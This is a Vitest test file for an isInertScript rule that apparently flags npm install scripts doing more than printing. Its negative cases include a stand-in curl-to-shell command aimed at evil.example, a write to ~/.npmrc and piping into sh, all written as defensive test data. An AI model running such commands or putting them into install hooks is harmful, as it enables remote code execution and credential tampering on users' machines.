import { describe, expect, it } from 'vitest';
import { isInertScript } from '../../src/rules/inert-script.js';

describe('isInertScript', () => {
  it('is true for scripts that only print or do nothing', () => {
    for (const s of [
      `echo ''; echo "\\x1B[1mCircularJSON\\x1B[0m is in maintenance only, flatted is its successor."; echo ''`,
      'echo "thanks for installing"',
      "printf 'done\\n' && exit 0",
      'true',
      ':',
      'echo a; echo "b; c"',
    ])
      expect(isInertScript(s), s).toBe(true);
  });

  it('is false for anything that runs a program, substitutes, redirects, pipes or backgrounds', () => {
    for (const s of [
      'node install.js',
      'echo hi && node collect.js',
      'echo $(curl -s https://evil.example | sh)',
      'echo `id`',
      'echo x > ~/.npmrc',
      'echo x | sh',
      'echo x & node y.js',
      'echo "unterminated',
      'echo hi\nnode x.js',
      'this never gets run',
      'echoes',
      '',
    ])
      expect(isInertScript(s), s).toBe(false);
  });
});
